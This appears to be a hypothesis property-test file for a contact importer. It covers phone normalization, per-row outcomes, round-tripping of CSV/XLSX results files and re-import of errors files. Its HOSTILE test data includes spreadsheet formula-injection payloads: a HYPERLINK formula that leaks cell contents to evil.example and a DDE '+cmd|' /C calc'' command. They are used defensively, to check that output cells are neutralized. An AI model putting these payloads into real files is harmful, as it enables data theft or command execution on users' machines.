"""Property tests (hypothesis) for hostile input: phone normalization, one outcome per row through the real
pipeline, results files that read back as written, and an errors file that can be fed straight back.

Known bugs get strict-xfail reproducers at the end of the file. The properties steer around those inputs only
while the bug is there (see the `*_OK` probes below): once it is fixed, the probe turns true, the properties
cover those inputs again by themselves, and the reproducer's XPASS says to drop its marker. None is open now:
the fixed ones stay as regression tests under "since fixed".
"""

from __future__ import annotations

import csv
import json
import os
import re
import tempfile
from collections import Counter
from collections.abc import Sequence
from functools import cache
from pathlib import Path

import openpyxl
import phonenumbers
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell import WriteOnlyCell
from python_calamine import load_workbook

from importer.errors import ExitCode
from importer.phones.numbers import normalize_phone, region_for
from importer.pipeline.run import OK_STATUSES, ImportOptions, Report, run_import
from importer.reading.cells import neutralize, unneutralize
from importer.results.writer import RESULT_COLUMNS, CsvLine, ResultsWriter, parse_line

ROOT = Path(__file__).resolve().parents[2]
ACCOUNT = ROOT / "sample_data" / "account.toml"
REGIONS = sorted(phonenumbers.SUPPORTED_REGIONS)
KNOWN_STATUSES = frozenset({"valid", "invalid", "duplicate", "created", "updated", "skipped", "failed"})
DRY_RUN_STATUSES = frozenset({"valid", "invalid", "duplicate"})
FORMULA_START = ("=", "+", "-", "@")

# IMPORTER_PROPERTY_SCALE=10 runs ten times the examples (a longer search than `make test`'s).
SCALE = float(os.environ.get("IMPORTER_PROPERTY_SCALE", "1"))
SETTINGS = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)


# --- reading files back ------------------------------------------------------------------------------------------


def write_csv(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def excel_escape(value: str) -> str:
    """Text as Excel stores it in xlsx XML: a literal "_x0041_" escaped as "_x005F_x0041_", a CR as "_x000D_"."""
    return _EXCEL_ESCAPE.sub("_x005F_", value).replace("\r", "_x000D_")


def write_xlsx(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """Every cell a string cell, even "=1+2": what a sheet with text typed in it holds (escaped as Excel does)."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Contacts")
    for values in rows:
        out = []
        for value in values:
            cell = WriteOnlyCell(sheet, value=excel_escape(value) if value else None)
            if value:
                cell.data_type = "s"
            out.append(cell)
        sheet.append(out)
    book.save(path)
    return path


def read_rows(path: Path) -> list[list[str]]:
    """A CSV or XLSX file we wrote, as rows of text (no unneutralizing). An xlsx is read with python-calamine, as
    the importer reads it (and as Excel does: it decodes the _xHHHH_ escapes that openpyxl leaves as they are)."""
    if path.suffix == ".xlsx":
        book = load_workbook(str(path))
        try:
            sheet = book.get_sheet_by_index(0)
            top, left = sheet.start or (0, 0)
            rows = [[""] * left + row for row in [[]] * top + sheet.to_python()]
        finally:
            book.close()
        for row in rows:
            assert all(isinstance(v, str) for v in row), row  # every cell written as text
            while row and row[-1] == "":  # rows come padded to the sheet's width
                row.pop()
        return rows
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_inert(path: Path) -> None:
    """No cell a spreadsheet would evaluate: in CSV none starts with = + - @; in xlsx none is a formula, and text
    that starts so carries the quote-prefix style (Excel's mark for it) rather than a quote in its value."""
    if path.suffix != ".xlsx":
        starts = [c for row in read_rows(path) for c in row if c.startswith(FORMULA_START)]
        assert not starts, f"{path.name}: cells that are not neutralized: {starts[:5]}"
        return
    cells = [c for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"{path.name}: formula cells {formulas[:5]}"
    bare = [c.value for c in cells if str(c.value or "").startswith(FORMULA_START) and not c.quotePrefix]
    assert not bare, f"{path.name}: formula-like text without the quote prefix: {bare[:5]}"


def padded(row: list[str], width: int) -> list[str]:
    return row + [""] * (width - len(row))


def xlsx_text(value: str, stored: str) -> str:
    """`value` as read back from an xlsx cell that openpyxl wrote as `stored` (the escaped text, as in the XML):
    openpyxl writes text of spaces only without xml:space="preserve", and python-calamine reads it as "" (blank
    either way); a CR is stored as "_x000D_", so " \r " is not blank there and reads back as it was."""
    return "" if stored.strip(" \t\r\n") == "" else value


def same_cells(actual: list[str], expected: list[str], xlsx: bool) -> bool:
    """Cells read back (unneutralized) from a results file, against what was written."""
    if xlsx:  # an xlsx row has no trailing empty cells, and a cell written as spaces only reads as ""
        # Stored as it is (the style marks formula-like text), but with one more quote before quotes that the
        # importer would drop when reading it.
        expected = [xlsx_text(c, excel_escape(neutralize(c) if c[:1] == "'" else c)) for c in expected]
        width = max(len(actual), len(expected))
        return padded(actual, width) == padded(expected, width)
    return actual == expected


def is_blank(values: Sequence[str]) -> bool:
    joined = "".join(values)
    return not joined or joined.isspace()


def expected_table(headers: list[str], rows: list[list[str]]) -> tuple[list[str], dict[int, list[str]]]:
    """What the reader makes of a sheet written from these cells: headers, and non-blank rows by sheet row
    number (the header is row 1) with their cells as the results file holds them (padded, extras appended)."""
    read_headers = [h.replace("\ufeff", "").strip() for h in headers]
    while read_headers and not read_headers[-1]:
        read_headers.pop()
    width = len(read_headers)
    out = {}
    for number, values in enumerate(rows, 2):
        if is_blank(values):
            continue
        extra = [c for c in values[width:] if c.strip()]
        out[number] = padded(values[:width], width) + extra
    return read_headers, out


def _errors_by_order(results: Path) -> list[str]:
    rows = read_rows(results)
    return [unneutralize(row[4]) for row in rows[1:] if unneutralize(row[1]) == "invalid"]


def dry_run(file: Path, results: Path, delimiter: str | None = None) -> Report:
    options = ImportOptions(file=file, account_file=ACCOUNT, dry_run=True, results=results, delimiter=delimiter)
    return run_import(options)


# --- known bugs: probes ------------------------------------------------------------------------------------

# Each probe is the assertion of a known bug's xfail test at the end of the file: true once the bug is fixed.


def _csv_line_keeps_newlines() -> bool:
    try:
        return parse_line(CsvLine().format(["line one\nline two", "cr\rlf"])) == ["line one\nline two", "cr\rlf"]
    except csv.Error:
        return False


def _multiline_cells_survive(valid: bool) -> bool:
    """A row with a multi-line note, valid or not, comes out as one results row (and one errors row)."""
    phone = "+34 612 34 56 78" if valid else "12"
    with tempfile.TemporaryDirectory() as tmp:
        source = write_csv(Path(tmp) / "c.csv", [["Name", "Phone", "Note"], ["Ana", phone, "one\ntwo"]])
        try:
            report = dry_run(source, Path(tmp) / "out.csv")
        except csv.Error:
            return False
        rows = read_rows(report.results_path)
        if len(rows) != 2 or rows[1][-1] != "one\ntwo":
            return False
        return valid or (report.errors_path is not None and read_rows(report.errors_path)[1][2] == "one\ntwo")


def _quote_prefixed_cell_reads_back() -> bool:
    with tempfile.TemporaryDirectory() as tmp:
        results, errors = Path(tmp) / "r.csv", Path(tmp) / "r.errors.csv"
        with ResultsWriter(results, errors, ["Name"]) as writer:
            writer.write(2, "invalid", "", "", "bad", "", CsvLine().format(["'=1+2"]))
        return unneutralize(read_rows(results)[1][-1]) == "'=1+2"


@cache
def _xlsx_results_keep_text(value: str = "") -> bool:
    """An .xlsx results and errors file read back (as the importer and Excel read them) hold `value` as written."""
    values = [value] if value else ["a\rb", "_x0041_", "x_x000D_y"]
    with tempfile.TemporaryDirectory() as tmp:
        results, errors = Path(tmp) / "r.xlsx", Path(tmp) / "r.errors.xlsx"
        with ResultsWriter(results, errors, ["Name"]) as writer:
            for number, text in enumerate(values, 2):
                writer.write(number, "invalid", "", text, text, "", CsvLine().format(["Ana"]))
        want = [[str(n), "invalid", "", text, text, "", "", "Ana"] for n, text in enumerate(values, 2)]
        return read_rows(results)[1:] == want and read_rows(errors)[1:] == [["Ana", text] for text in values]


@cache
def _reimport_gives_the_same_error(*rows: tuple[str, ...]) -> bool:
    """Dry-run a CSV of these rows, then its errors file: is the first row's error the same both times?"""
    with tempfile.TemporaryDirectory() as tmp:
        first = dry_run(write_csv(Path(tmp) / "c.csv", rows), Path(tmp) / "r.csv")
        assert first.errors_path is not None
        second = dry_run(first.errors_path, Path(tmp) / "again.csv")
        return _errors_by_order(second.results_path)[:1] == _errors_by_order(first.results_path)[:1]


def _reimported_headers_keep_their_name() -> bool:
    return _reimport_gives_the_same_error(("Name", "+Phone", "Note"), ("", "", "x"))


def _reimported_rows_keep_their_extra_cells() -> bool:
    return _reimport_gives_the_same_error(("Name", "Phone"), ("Ana", "12", "extra"))


def _reimported_cells_keep_their_leading_tab() -> bool:
    return _reimport_gives_the_same_error(("Name", "Phone"), ("Ana", "\t612"))


NEWLINES_OK = _csv_line_keeps_newlines() and _multiline_cells_survive(True) and _multiline_cells_survive(False)
QUOTE_PREFIX_OK = _quote_prefixed_cell_reads_back()
REIMPORT_STRIP_OK = _reimported_cells_keep_their_leading_tab()


def clear_of_bugs(value: str, *, pipeline: bool = False, reimport: bool = False) -> bool:
    """False for a value that would run into a known bug not fixed yet."""
    if not QUOTE_PREFIX_OK and unneutralize(value) != value:  # "'=1+2" reads back as "=1+2"
        return False
    # "\tAna" is read as "Ana", and re-imported from the errors file ("'\tAna") as "\tAna"
    return not (
        reimport and not REIMPORT_STRIP_OK and unneutralize(neutralize(value).strip()) != unneutralize(value.strip())
    )


_EXCEL_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")  # a lookahead: in "_x005F_x0041_" both "_" are escaped


def steer_clear(
    values: Sequence[str],
    *,
    pipeline: bool = False,
    reimport: bool = False,
    headers: Sequence[str] = (),
    xlsx_out: bool = False,
) -> None:
    """Leave out the inputs of the known bugs that are not fixed yet (the strategies mostly avoid them already)."""
    assume(all(clear_of_bugs(v, pipeline=pipeline, reimport=reimport) for v in values))
    if xlsx_out and not _xlsx_results_keep_text():  # "\r" comes back as "\n", "_x0041_" as "A"
        assume(not any("\r" in v or _EXCEL_ESCAPE.search(v) for v in values))
    if reimport and not _reimported_headers_keep_their_name():  # "+Phone" comes back as "'+Phone"
        assume(not any(neutralize(h) != h for h in headers))


# --- strategies ------------------------------------------------------------------------------------------------


# Text a person can type in a cell: no control characters (a CSV with many is refused as binary, and xlsx cannot
# hold them) but tabs; newlines only where the results file keeps them (NEWLINES_OK).
def _cell_chars(newlines: bool) -> st.SearchStrategy[str]:
    return st.characters(
        blacklist_categories=("Cs", "Cc"),
        blacklist_characters="\ufffe\uffff",
        whitelist_characters="\t\n\r" if newlines else "\t",
    )


HOSTILE = [
    "=1+2",
    "+34 600 11 22 33",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "=",
    "+",
    "-",
    "@",
    "\t=1+2",
    "'=1+2",
    "'+34 600 11 22 33",
    "''",
    "'",
    'say "hi"',
    "Ana, Luis",
    "a;b|c\td",
    " ",
    "\u00a0",
    "_x0041_",
    "a_x000D_b",
    "Zoë Ñúñez",
    "日本語",
    "🙂",
    "line one\nline two",
    "cr\r\nlf",
    "\r",
    "+34 612 34 56 78",
    "0034612345678",
    "612345678",
    "34612345678",
    "+44 7911 123456",
    "+52 1 55 1234 5678",
    "whatsapp:+34612345678",
    "612 34 56 78 ::: +34 911 23 45 67",
    "Spain",
    "ES",
    "España",
    "Atlantis",
    "+34",
    "VIP",
    "vip, Lead",
    "Gold",
    "ana@example.com",
    "nobody@example.com",
    "Support",
    "Main WhatsApp",
    "bot_start",
    "bot end",
    "instagram",
    "whatsapp",
    "Active",
    "Dark Mode; Beta",
    "2024-02-30",
    "2024-02-29",
    "45000",
    "1,5",
    "-12",
    "x" * 1001,
]
NAME_HEADERS = ["Name", "Full Name", "Nombre", "First Name", "Nombre completo", "Contact Name"]
PHONE_HEADERS = ["Phone", "Mobile Phone", "Teléfono", "WhatsApp", "Phone 1 - Value", "Celular", "Tel"]
OTHER_HEADERS = [
    "Last Name",
    "Apellidos",
    "Segundo apellido",
    "Country",
    "País",
    "Tags",
    "Etiquetas",
    "Assigned User",
    "Team",
    "Channel",
    "Note",
    "Notas",
    "Source",
    "Bot Status",
    "Billing Address",
    "Invoice Email",
    "Orders",
    "Birthday",
    "Status",
    "Features",
    "cf:Unknown",
    "Email",
    "Company",
    "",
    " ",
    "Phone",
    "Home Phone",
    "Phone 1 - Label",
    "Error",
    " Tags ",
]
# Headers are cells too: a file can start its column names with a formula character.
HOSTILE_HEADERS = ["+Phone", "=Name", "@Tags", "-Note"]


def cells(newlines: bool, *, pipeline: bool = False, reimport: bool = False) -> st.SearchStrategy[str]:
    hostile = [h for h in HOSTILE if newlines or ("\n" not in h and "\r" not in h)]
    text = st.text(_cell_chars(newlines), max_size=12)
    values = st.one_of(st.just(""), st.sampled_from(hostile), text, text.map(neutralize))
    return values.filter(lambda v: clear_of_bugs(v, pipeline=pipeline, reimport=reimport))


@st.composite
def sheets(
    draw: st.DrawFn, *, newlines: bool, ragged: bool = True, reimport: bool = False
) -> tuple[list[str], list[list[str]]]:
    """Headers (a name and a phone column among realistic others) and rows: blank, full or ragged."""
    headers = [draw(st.sampled_from(NAME_HEADERS)), draw(st.sampled_from(PHONE_HEADERS))]
    hostile = HOSTILE_HEADERS if not reimport or _reimported_headers_keep_their_name() else []
    headers += draw(st.lists(st.sampled_from(OTHER_HEADERS + hostile), max_size=5))
    headers = list(draw(st.permutations(headers)))
    while not headers[0].strip():  # a blank column A would be dropped by the xlsx reader: start with a header
        headers.append(headers.pop(0))
    if reimport and not _reimported_rows_keep_their_extra_cells():
        while not headers[-1].strip():  # cells under trailing blank headers are extra cells, lost by the errors file
            headers.pop()
    width = len(headers)
    cell = cells(newlines, pipeline=True, reimport=reimport)
    row = st.one_of(
        st.lists(cell, min_size=width, max_size=width),
        st.sampled_from([[], [""] * width, [" "] * width]),
        *([st.lists(cell, max_size=width + 3)] if ragged else []),
    )
    return headers, draw(st.lists(row, max_size=10))


# --- 1. phone numbers -------------------------------------------------------------------------------------------

_TYPES = [phonenumbers.PhoneNumberType.MOBILE, phonenumbers.PhoneNumberType.FIXED_LINE]
_STYLES = [
    phonenumbers.PhoneNumberFormat.E164,
    phonenumbers.PhoneNumberFormat.INTERNATIONAL,
    phonenumbers.PhoneNumberFormat.NATIONAL,
]


@st.composite
def real_numbers(draw: st.DrawFn) -> str:
    """A libphonenumber example number of a random region, some digits changed, written in a random style."""
    region = draw(st.sampled_from(REGIONS))
    number = phonenumbers.example_number_for_type(region, draw(st.sampled_from(_TYPES)))
    if number is None:
        return region
    text = phonenumbers.format_number(number, draw(st.sampled_from(_STYLES)))
    digits = [i for i, c in enumerate(text) if c.isdigit()]
    for _ in range(draw(st.integers(0, 3))):
        i = draw(st.sampled_from(digits))
        text = text[:i] + draw(st.sampled_from("0123456789")) + text[i + 1 :]
    prefix = draw(st.sampled_from(["", "", "00", "+", "tel:", "WhatsApp: ", " ", "'"]))
    if prefix in ("00", "+"):
        text = text.lstrip("+")
    return prefix + text


phone_texts = st.one_of(
    st.text(),
    st.text(alphabet="0123456789+ -().:/\u00a0\u2011x", max_size=24),
    st.from_regex(r"(\+|00)?[1-9][0-9]{5,15}", fullmatch=True),
    st.from_regex(r"[0-9０-９٠-٩]{6,14}", fullmatch=True),  # full-width and Arabic-Indic digits
    real_numbers(),
    st.sampled_from(HOSTILE),
)
regions = st.one_of(st.none(), st.sampled_from(REGIONS), st.sampled_from(REGIONS).map(str.lower))


@settings(SETTINGS, max_examples=round(400 * SCALE))
@given(raw=phone_texts, region=regions, fmt=st.sampled_from(["digits", "e164"]))
@example(raw="+52 1 55 1234 5678", region=None, fmt="digits")
@example(raw="0151 23456789", region="DE", fmt="e164")
def test_normalize_phone_never_raises_and_its_identifiers_are_valid(raw: str, region: str | None, fmt: str) -> None:
    phone = normalize_phone(raw, region, fmt)  # type: ignore[arg-type]
    assert (phone.identifier is None) != (phone.error is None), phone
    if phone.identifier is None:
        assert phone.error and "\n" not in phone.error
        return
    digits = phone.identifier[1:] if fmt == "e164" else phone.identifier
    assert phone.identifier.startswith("+") == (fmt == "e164")
    assert digits.isascii() and digits.isdigit(), phone
    assert phonenumbers.is_valid_number(phonenumbers.parse("+" + digits, None)), phone


_MOBILE = {phonenumbers.PhoneNumberType.MOBILE, phonenumbers.PhoneNumberType.FIXED_LINE_OR_MOBILE}


def _reads_as_another_national_number(digits: str, region: str) -> bool:
    """True when `digits` is also a valid national number of `region`, other than +digits, that the importer keeps:
    the ambiguity of the digits form. A foreign mobile wins over a national number that is not a mobile (see
    test_digits_identifier_is_read_again_as_the_same_number_with_a_region); otherwise the region decides."""
    try:
        national = phonenumbers.parse(digits, region)
    except phonenumbers.NumberParseException:
        return False
    e164 = phonenumbers.format_number(national, phonenumbers.PhoneNumberFormat.E164)
    if not phonenumbers.is_valid_number(national) or e164 == "+" + digits:
        return False
    foreign = phonenumbers.parse("+" + digits)
    return phonenumbers.number_type(national) in _MOBILE or phonenumbers.number_type(foreign) not in _MOBILE


@cache
def _example_numbers() -> list[tuple[str, phonenumbers.PhoneNumber]]:
    return [
        (region, number)
        for region in REGIONS
        for kind in _TYPES
        if (number := phonenumbers.example_number_for_type(region, kind)) is not None
    ]


_DIGIT_SCRIPTS = ["0123456789", "0123456789", "０１２３４５６７８９", "٠١٢٣٤٥٦٧٨٩"]  # ASCII, full-width, Arabic-Indic


@st.composite
def readable_phones(draw: st.DrawFn) -> tuple[str, str | None]:
    """A phone text with a region to read it under, that the importer reads as a number: a libphonenumber example
    number in a random style, digits and separators; written nationally it comes with its own region, with its
    country code with none, its own or any other, after "+" or "00"; in a random dress. (The wild `phone_texts`
    rarely read as a number: test_normalize_phone_never_raises_and_its_identifiers_are_valid takes those.)"""
    region, number = draw(st.sampled_from(_example_numbers()))
    style = draw(st.sampled_from(_STYLES))
    text = phonenumbers.format_number(number, style)
    if style == phonenumbers.PhoneNumberFormat.NATIONAL:
        read_as: str | None = region
    else:
        read_as = draw(st.one_of(st.none(), st.just(region), st.sampled_from(REGIONS)))
        if draw(st.booleans()):
            text = "00" + text.removeprefix("+")
    text = text.translate(str.maketrans("0123456789", draw(st.sampled_from(_DIGIT_SCRIPTS))))
    text = text.replace(" ", draw(st.sampled_from([" ", " ", "\u00a0", "-", "\u2011", "."])))
    prefix = draw(st.sampled_from(["", " ", "tel:", "WhatsApp: "]))
    return prefix + text, read_as and draw(st.sampled_from([read_as, read_as.lower()]))


def test_readable_phones_mostly_read_as_numbers() -> None:
    """The idempotence property below only learns from inputs that read as a number: most of them must."""
    read: list[bool] = []

    @settings(max_examples=200, database=None, deadline=None)
    @given(phone=readable_phones())
    def draw(phone: tuple[str, str | None]) -> None:
        read.append(normalize_phone(*phone, "digits").identifier is not None)  # type: ignore[arg-type]

    draw()
    assert sum(read) >= 0.9 * len(read), f"{sum(read)} of {len(read)} read as a number"


# Every health check on: most inputs read as a number, so `assume` below drops few.
@settings(deadline=None, max_examples=round(400 * SCALE))
@given(phone=readable_phones(), fmt=st.sampled_from(["digits", "e164"]))
@example(phone=("+34 612 34 56 78", "ES"), fmt="digits")
@example(phone=("612 34 56 78", "es"), fmt="e164")
def test_normalize_phone_is_idempotent_on_its_own_output(phone: tuple[str, str | None], fmt: str) -> None:
    raw, region = phone
    first = normalize_phone(raw, region, fmt)  # type: ignore[arg-type]
    assume(first.identifier is not None)
    assert first.identifier is not None
    again_anywhere = normalize_phone(first.identifier, None, fmt)  # type: ignore[arg-type]
    assert again_anywhere.identifier == first.identifier, (again_anywhere, first)
    if fmt == "digits" and region and _reads_as_another_national_number(first.identifier, region.upper()):
        return  # the digits form's ambiguity, decided for the region's own number
    again_here = normalize_phone(first.identifier, region, fmt)  # type: ignore[arg-type]
    assert again_here.identifier == first.identifier, (again_here, first)


@settings(SETTINGS, max_examples=round(200 * SCALE))
@given(st.one_of(st.text(), st.sampled_from(HOSTILE), st.from_regex(r"\+?[0-9]{1,6}", fullmatch=True)))
def test_region_for_never_raises(country: str) -> None:
    steer_clear([country], pipeline=True)
    assert region_for(country) in phonenumbers.SUPPORTED_REGIONS | {None}


# --- 2. one outcome per row, through the real pipeline ---------------------------------------------------------


@settings(SETTINGS, max_examples=round(100 * SCALE))
@given(sheet=sheets(newlines=NEWLINES_OK), kind=st.sampled_from(["csv", "xlsx"]), out=st.sampled_from(["csv", "xlsx"]))
@example(
    sheet=(["Name", "Phone", "Note"], [["=1+2", "+34 600 11 22 33", "-2+3"], ["@SUM(A1)", "", "a,b"], [], ["Ana"]]),
    kind="csv",
    out="csv",
)
def test_every_row_gets_exactly_one_outcome(sheet: tuple[list[str], list[list[str]]], kind: str, out: str) -> None:
    headers, rows = sheet
    steer_clear([*headers, *(c for row in rows for c in row)], pipeline=True, xlsx_out=out == "xlsx")
    with tempfile.TemporaryDirectory() as tmp:
        directory = Path(tmp)
        write = write_csv if kind == "csv" else write_xlsx
        source = write(directory / f"contacts.{kind}", [headers, *rows])
        results = directory / f"out.{out}"
        # The delimiter is given: detection is a guess that short rows can mislead (["+cmd|' /C calc'!A0"] twice
        # under "Name,Phone" reads as '|'); the errors file re-import below relies on detection.
        report = dry_run(source, results, "," if kind == "csv" else None)

        if kind == "xlsx":
            rows = [[xlsx_text(c, excel_escape(c)) for c in row] for row in rows]
        read_headers, expected = expected_table(headers, rows)
        got = read_rows(results)
        xlsx = out == "xlsx"
        assert same_cells([unneutralize(c) for c in got[0]], [*RESULT_COLUMNS, *read_headers], xlsx)
        outcomes = [dict(zip(RESULT_COLUMNS, row, strict=False)) for row in got[1:]]
        numbers = [int(o["row"]) for o in outcomes]
        assert numbers == sorted(expected), "one results row per non-blank input row, in row order"
        for number, row in zip(numbers, got[1:], strict=True):
            original = [unneutralize(c) for c in row[len(RESULT_COLUMNS) :]]
            assert same_cells(original, expected[number], xlsx), f"row {number}: original cells changed"

        statuses = Counter(o["status"] for o in outcomes)
        assert set(statuses) <= DRY_RUN_STATUSES <= KNOWN_STATUSES
        assert statuses == report.counts and report.row_count == len(expected)
        assert report.exit_code == (ExitCode.OK if set(statuses) <= OK_STATUSES else ExitCode.ROWS_FAILED)
        assert report.exit_code == (ExitCode.ROWS_FAILED if statuses["invalid"] + statuses["duplicate"] else 0)
        summary = json.loads(report.summary_path.read_text(encoding="utf-8"))
        assert summary["exit_code"] == report.exit_code and summary["rows"] == len(expected)

        by_row = {int(o["row"]): o for o in outcomes}
        for number, o in by_row.items():
            status, identifier, error = unneutralize(o["status"]), unneutralize(o["identifier"]), o["error"]
            if status == "valid":
                assert identifier and not error, o
            elif status == "invalid":
                assert error, o
            else:  # a duplicate names the earlier, valid row with the same identifier
                match = re.fullmatch(r"same phone as row (\d+)", error)
                assert match, o
                first = by_row[int(match.group(1))]
                assert int(match.group(1)) < number and first["status"] == "valid"
                assert unneutralize(first["identifier"]) == identifier
        if statuses["invalid"]:
            assert report.errors_path is not None and report.errors_path.exists()
            assert len(read_rows(report.errors_path)) == 1 + statuses["invalid"]
        else:
            assert report.errors_path is None
        assert_inert(results)


# --- 3. results files read back as written --------------------------------------------------------------------


@st.composite
def outcomes(draw: st.DrawFn, width: int, newlines: bool) -> list[tuple[int, str, str, str, str, str, list[str]]]:
    text = cells(newlines)
    numbers = draw(st.lists(st.integers(2, 10**6), unique=True, max_size=8))
    out = []
    for number in sorted(numbers):
        status = draw(st.sampled_from(sorted(KNOWN_STATUSES)))
        uuid, identifier, error, href = (draw(text) for _ in range(4))
        if status in ("invalid", "failed"):  # such a row always says why
            error = error.strip() or "Phone: phone is required"
        values = draw(st.lists(text, min_size=width, max_size=width + 2))
        out.append((number, status, uuid, identifier, error, href, values))
    return out


@pytest.mark.slow
@settings(SETTINGS, max_examples=round(150 * SCALE))
@given(data=st.data(), kind=st.sampled_from(["csv", "xlsx"]))
def test_results_files_read_back_as_written(data: st.DataObject, kind: str) -> None:
    newlines = NEWLINES_OK
    header_text = st.one_of(
        st.sampled_from(NAME_HEADERS + PHONE_HEADERS + OTHER_HEADERS + HOSTILE_HEADERS), cells(newlines)
    )
    headers = data.draw(st.lists(header_text, min_size=1, max_size=5), label="headers")
    written = data.draw(outcomes(len(headers), newlines), label="rows")
    steer_clear(
        [*headers, *(v for _, _, *texts, values in written for v in (*texts, *values))], xlsx_out=kind == "xlsx"
    )
    xlsx = kind == "xlsx"
    with tempfile.TemporaryDirectory() as tmp:
        results, errors = Path(tmp) / f"r.{kind}", Path(tmp) / f"r.errors.{kind}"
        line = CsvLine()
        with ResultsWriter(results, errors, headers) as writer:
            for number, status, uuid, identifier, error, href, values in written:
                # The warning cell gets the same hostile text as the error cell.
                writer.write(number, status, uuid, identifier, error, href, line.format(values), error)

        got = [[unneutralize(c) for c in row] for row in read_rows(results)]
        assert same_cells(got[0], [*RESULT_COLUMNS, *headers], xlsx)
        assert len(got) == 1 + len(written)
        for row, (number, status, uuid, identifier, error, href, values) in zip(got[1:], written, strict=True):
            assert same_cells(row, [str(number), status, uuid, identifier, error, error, href, *values], xlsx)

        error_at = next((i for i, h in enumerate(headers) if h.strip().casefold() == "error"), None)
        want = [list(headers) if error_at is not None else [*headers, "error"]]
        for _, status, _, _, error, _, values in written:
            if status in ("invalid", "failed"):
                # Each cell as the importer reads it, one quote before a formula character undone ("'=1+2" -> "=1+2"):
                # the errors file is imported again, and that import must read the same values and write the same
                # file (test_the_errors_file_reimported_gives_the_same_errors). Only the results file keeps "'=1+2".
                read = [unneutralize(v) for v in values]
                original, extra = read[: len(headers)], read[len(headers) :]
                if error_at is None:
                    row = [*original, error]
                else:
                    row = [*original[:error_at], error, *original[error_at + 1 :]]
                want.append(row + extra)  # cells beyond the header after the error column: a re-import reports them
        got_errors = [[unneutralize(c) for c in row] for row in read_rows(errors)]
        assert len(got_errors) == len(want)
        for actual, expected in zip(got_errors, want, strict=True):
            assert same_cells(actual, expected, xlsx)
        assert_inert(results)
        assert_inert(errors)


# --- 4. the errors file fed straight back -----------------------------------------------------------------------


@settings(SETTINGS, max_examples=round(60 * SCALE))
@given(sheet=sheets(newlines=NEWLINES_OK, ragged=False, reimport=True), out=st.sampled_from(["csv", "xlsx"]))
@example(sheet=(["Name", "Phone", "Tags"], [["=1+2", "-2+3", "Gold"], ["Ana", "+34 600 11 22 33", "VIP"]]), out="csv")
@example(sheet=(["Name", "Phone", "Note"], [["'=1+2", "12", " \r "], ["'\t", "'\t612", "_x0041_"]]), out="xlsx")
# A number in an "Error" column: never read as the phone (the errors file rewrites that column), found by hypothesis.
@example(
    sheet=(
        ["Name", "Error", "Last Name", "Phone", "Last Name"],
        [["", "", "", "", ""], ["", "+34 600 11 22 33", "", "=1+2", ""]],
    ),
    out="csv",
)
def test_the_errors_file_reimported_gives_the_same_errors(sheet: tuple[list[str], list[list[str]]], out: str) -> None:
    headers, rows = sheet
    values = [*headers, *(c for row in rows for c in row)]
    steer_clear(values, pipeline=True, reimport=True, headers=headers, xlsx_out=out == "xlsx")
    with tempfile.TemporaryDirectory() as tmp:
        directory = Path(tmp)
        first = dry_run(write_csv(directory / "contacts.csv", [headers, *rows]), directory / f"first.{out}")
        assume(first.errors_path is not None)
        assert first.errors_path is not None
        second = dry_run(first.errors_path, directory / f"second.{out}")
        assert second.counts == Counter(invalid=first.counts["invalid"]), "every row of the errors file fails again"
        assert _errors_by_order(second.results_path) == _errors_by_order(first.results_path)
        # And the errors file of the re-import is the errors file it read: the `error` column is refreshed.
        assert second.errors_path is not None
        again, before = read_rows(second.errors_path), read_rows(first.errors_path)
        if out == "xlsx":
            before = [[xlsx_text(c, excel_escape(c)) for c in row] for row in before]
        assert len(again) == len(before)
        for row_again, row_before in zip(again, before, strict=True):
            assert same_cells(row_again, row_before, out == "xlsx")


# --- bugs these properties found, since fixed -------------------------------------------------------------------


def test_csv_line_quotes_cells_with_newlines() -> None:
    """CsvLine wrote a cell holding a line break unquoted (csv quotes only the characters of its terminator)."""
    assert _csv_line_keeps_newlines()


def test_invalid_row_with_a_multiline_note_is_reported() -> None:
    """It made ResultsWriter.write raise _csv.Error: a traceback and no results file."""
    assert _multiline_cells_survive(valid=False)


def test_valid_row_with_a_multiline_note_stays_one_results_row() -> None:
    """Its results row was split over two CSV records."""
    assert _multiline_cells_survive(valid=True)


def test_region_for_a_superscript_digit_is_unknown() -> None:
    """'²'.isdigit() is true, and int('²') raised ValueError."""
    assert region_for("²") is None


def test_a_superscript_country_cell_is_an_invalid_row(tmp_path: Path) -> None:
    """The ValueError escaped run_import."""
    source = write_csv(tmp_path / "c.csv", [["Name", "Phone", "Country"], ["Ana", "612345678", "²"]])
    assert dry_run(source, tmp_path / "out.csv").counts == Counter(invalid=1)


@pytest.mark.parametrize("country", ["800", "+800", "870", "979"])
def test_region_for_a_non_geographic_calling_code_is_unknown(country: str) -> None:
    """It gave "001" (libphonenumber's non-geographic code): rows then failed with 'unknown country code for 001'."""
    assert region_for(country) is None


def test_a_quote_prefixed_cell_reads_back_unchanged() -> None:
    """A cell typed as "'=1+2" was written as it was and read back as "=1+2": neutralize now adds a quote to it too,
    and unneutralize takes exactly one away."""
    assert _quote_prefixed_cell_reads_back()


def test_a_leading_tab_reads_the_same_from_the_errors_file() -> None:
    """Cells were stripped before unneutralize: "\\t612" read as "612", but from the errors file ("'\\t612") as
    "\\t612", so the re-import reported other errors."""
    assert _reimported_cells_keep_their_leading_tab()


def test_extra_cells_survive_the_errors_file() -> None:
    """The errors file kept only the cells under a header: re-imported, the row no longer said 'row has 1 more
    cell(s)...'. They now follow the error column."""
    assert _reimported_rows_keep_their_extra_cells()


@pytest.mark.parametrize("value", ["a\rb", "_x0041_", "x_x000D_y"])
def test_xlsx_results_read_back_as_written(value: str) -> None:
    """Text was written to .xlsx unescaped: it read back (in Excel and in the importer) with CR turned into LF and
    a literal "_x0041_" turned into "A"."""
    assert _xlsx_results_keep_text(value)


